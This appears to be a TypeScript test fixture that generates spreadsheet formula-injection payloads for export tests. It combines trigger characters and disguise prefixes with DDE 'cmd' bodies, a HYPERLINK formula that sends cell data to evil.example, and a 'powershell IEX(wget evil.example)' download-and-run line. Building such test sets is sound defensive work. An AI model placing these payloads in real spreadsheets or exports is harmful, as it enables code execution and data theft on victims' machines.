/** Cells that spreadsheets would run, for the export tests: commands behind every trigger and every disguise. */
const triggers = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20"];
const disguises = ["", " ", "  ", "'", '"', "\"'", ' "', "\ufeff", "\u00a0", "\t "];
const bodies = [
	"1+1",
	"cmd|' /C calc'!A0",
	'HYPERLINK("https://evil.example/?x="&A1,"Click")',
	"SUM(1,2)*cmd|'/c powershell IEX(wget evil.example)'!A0",
	'DDE("cmd";"/C calc";"x")',
];

export const formulaPayloads: readonly string[] = triggers.flatMap((trigger) =>
	disguises.flatMap((disguise) => bodies.map((body) => disguise + trigger + body)),
);
